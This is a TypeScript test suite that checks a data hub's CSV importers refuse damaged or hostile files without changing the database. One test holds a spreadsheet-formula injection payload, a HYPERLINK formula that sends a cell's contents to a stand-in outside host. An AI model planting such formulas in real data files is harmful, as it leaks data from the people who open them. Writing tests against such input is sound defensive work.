import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import fs from 'node:fs';
import { budgetsImporter } from '../../../src/modules/budgets/budgets.importer';
import { policeOutcomesImporter, policeStreetImporter } from '../../../src/modules/crime/police.importer';
import { housingImporter } from '../../../src/modules/housing/housing.importer';
import type { Importer } from '../../../src/modules/imports/import.types';
import { fingertipsImporter } from '../../../src/modules/indicators/fingertips.importer';
import { onsLookupImporter } from '../../../src/modules/places/ons-lookup.importer';
import { imdImporter } from '../../../src/modules/profiles/imd.importer';
import { expectRejectedUnchanged, fixture, importWith, tableSnapshot, useImportDatabase, useTempDir } from '../../support/imports';

/*
 * Every importer is given damaged and hostile versions of its good sample file. Each must be refused
 * with a problem naming the row (and the column, where there is one), and change nothing at all.
 */

const { client } = useImportDatabase({ per: 'file' });
const tmp = useTempDir('hostile-');

interface Case {
  importer: Importer;
  good: string;
  /** A text column to spoil. */
  text: string;
  /** The table the importer writes, ordered so two snapshots compare. */
  table: string;
  order: string;
  /** A data row (0-based) the importer loads, to repeat; the last when not given. */
  repeat?: number;
  /** A column to change in the repeated row: Fingertips skips a row repeated with the same figures. */
  vary?: string;
}

const CASES: Case[] = [
  { importer: policeStreetImporter, good: fixture('police', 'street-good.csv'), text: 'Location', table: 'crime', order: 'id', repeat: 33 },
  {
    importer: policeOutcomesImporter,
    good: fixture('police', 'outcomes-good.csv'),
    text: 'Outcome type',
    table: 'crime_outcome',
    order: 'id',
  },
  {
    importer: fingertipsImporter,
    good: fixture('fingertips', 'good.csv'),
    text: 'Indicator Name',
    table: 'indicator_value',
    order: 'id',
    repeat: 9,
    vary: 'Value',
  },
  {
    importer: imdImporter,
    good: fixture('imd2019', 'good.csv'),
    text: 'LSOA name (2011)',
    table: 'lsoa_deprivation',
    order: 'id',
    repeat: 1,
  },
  { importer: onsLookupImporter, good: fixture('ons-lookup', 'good.csv'), text: 'LSOA21NM', table: 'lsoa', order: 'code', repeat: 1 },
  { importer: housingImporter, good: fixture('housing', 'good.csv'), text: 'ward_code', table: 'housing_month', order: 'id' },
  { importer: budgetsImporter, good: fixture('ward-budgets', 'good.csv'), text: 'organisation', table: 'budget_allocation', order: 'id' },
];

/** The good file's header and rows, as cells. */
function read(file: string): { header: string[]; rows: string[][] } {
  const [header, ...rows] = parse(fs.readFileSync(file), { bom: true, relax_column_count: true });
  return { header, rows };
}

function write(name: string, header: string[], rows: string[][]): string {
  return tmp.write(name, stringify([header, ...rows]));
}

/** The good file with one cell of data row `index` (row index + 2 in the file) replaced. */
function spoil(c: Case, column: string, value: string, index = 1): string {
  const { header, rows } = read(c.good);
  const at = header.findIndex((h) => h.trim() === column);
  expect(at).toBeGreaterThanOrEqual(0);
  rows[index] = rows[index].map((cell, i) => (i === at ? value : cell));
  return write('spoilt.csv', header, rows);
}

async function refused(c: Case, file: string) {
  const err = await expectRejectedUnchanged(
    () => importWith(client, c.importer, file),
    async () => ({
      rows: await tableSnapshot(client, `select * from ${c.table} order by ${c.order}`),
      sources: await tableSnapshot(client, 'select id, key, row_count from data_source order by id'),
    }),
  );
  return err.problems;
}

describe.each(CASES)('$importer.kind refuses hostile files, naming the row, and changes nothing', (c) => {
  it('a NUL byte in a cell', async () => {
    expect(await refused(c, spoil(c, c.text, 'Rother\u0000ham'))).toEqual([
      { row: 3, column: c.text, message: 'contains a NUL byte (is this a binary file, or UTF-16?)' },
    ]);
  });

  it('a huge cell', async () => {
    expect(await refused(c, spoil(c, c.text, 'x'.repeat(20_000)))).toEqual([
      { row: 3, column: c.text, message: 'is 20000 characters long, more than the 10000 a cell may have' },
    ]);
  });

  it('a spreadsheet formula in a text cell', async () => {
    const formula = '=HYPERLINK("http://example.invalid/?"&A1,"Click")';
    expect(await refused(c, spoil(c, c.text, formula))).toEqual([
      { row: 3, column: c.text, message: `'${formula.slice(0, 40)}' looks like a spreadsheet formula, which the hub does not load` },
    ]);
  });

  it('an absurdly long row (an unclosed quote running on, or millions of cells)', async () => {
    const { header } = read(c.good);
    const good = fs
      .readFileSync(c.good, 'utf8')
      .replace(/^\uFEFF/, '')
      .split(/\r?\n/);
    const file = tmp.write('long.csv', [good[0], good[1], 'a,'.repeat(600_000), good[2]].join('\n'));
    expect(header.length).toBeGreaterThan(1);
    const problems = await refused(c, file);
    expect(problems).toEqual([
      { row: 3, message: expect.stringMatching(/longer than 1000000 characters|expected \d+ columns, found 600001/) },
    ]);
  });

  it('a header that is not the format', async () => {
    const { header, rows } = read(c.good);
    const problems = await refused(
      c,
      write(
        'header.csv',
        header.map((h) => `${h} (renamed)`),
        rows,
      ),
    );
    expect(problems).toEqual([{ row: 1, message: expect.stringMatching(/^the header lacks /) }]);
  });

  it('a row cut short (a partial file)', async () => {
    const text = fs.readFileSync(c.good, 'utf8');
    const cut = text.slice(0, text.lastIndexOf(',', text.trimEnd().length - 1));
    const lines = cut
      .replace(/^\uFEFF/, '')
      .trimEnd()
      .split(/\r?\n/).length;
    const problems = await refused(c, tmp.write('cut.csv', cut));
    expect(problems).toEqual([{ row: lines, message: expect.stringMatching(/^expected \d+ columns, found \d+/) }]);
  });

  it('the same row twice (a duplicate key)', async () => {
    const { header, rows } = read(c.good);
    const again = [...rows[c.repeat ?? rows.length - 1]];
    if (c.vary) again[header.indexOf(c.vary)] = '1';
    const problems = await refused(c, write('twice.csv', header, [...rows, again]));
    expect(problems).toEqual([{ row: rows.length + 2, column: expect.any(String), message: expect.any(String) }]);
    expect(problems[0].message).toMatch(/more than one row|already|same|twice/);
  });
});
